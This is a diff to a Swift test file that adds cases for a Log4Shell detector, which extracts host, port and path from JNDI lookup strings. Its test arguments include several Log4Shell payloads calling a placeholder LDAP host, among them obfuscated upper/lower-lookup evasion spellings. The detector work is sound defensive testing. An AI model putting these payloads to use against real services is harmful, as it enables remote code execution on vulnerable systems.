@@ -25,6 +25,24 @@ private func hex(_ byte: UInt8) -> String { (byte < 16 ? "0" : "") + String(byte
     #expect(found?.path == "/a")
   }
 
+  /// A field's limit that is marked, an address that a report made harmless, and a spelling that fetches nothing but that
+  /// lists of payloads have.
+  @Test(arguments: [
+    "Bad parameter ${jndi:ldap://h.example:1389/a...", "Bad parameter ${jndi:ldap://h.example:1389/a… (cut)",
+    "${jndi:ldap://h[.]example[:]1389/a}",
+    "${${upper::-j}${upper::-n}${::-d}${upper::-i}:${upper::-l}${upper::-d}${upper::-a}${upper::-p}://h.example:1389/a}",
+    "${j${lower::-zz}ndi:ldap://h.example:1389/a}",
+  ])
+  func whatOnlyLooksBrokenIsRead(text: String) {
+    let found = log4shell(text)
+    #expect(found?.host == "h.example", "\(text)")
+    #expect(found?.port == 1389)
+    #expect(found?.path == "/a")
+  }
+
+  @Test(arguments: ["${lower::-j}ndi", "a ${upper::-x} b", "${upper::-jndi}", "${jndi:ldap://.../a"])
+  func emptyCasesAloneAreNoPayload(text: String) { #expect(log4shell(text) == nil) }
+
   @Test(arguments: ["\\n", "\\r\\n", "%0A", "%0D%0A", "\n"])
   func linesOfBase64MayHaveEscapedEnds(end: String) {
     let text = "{\"mail\":\"padding padding padding padding padd\(payload) and so on, as mail goes\"}"
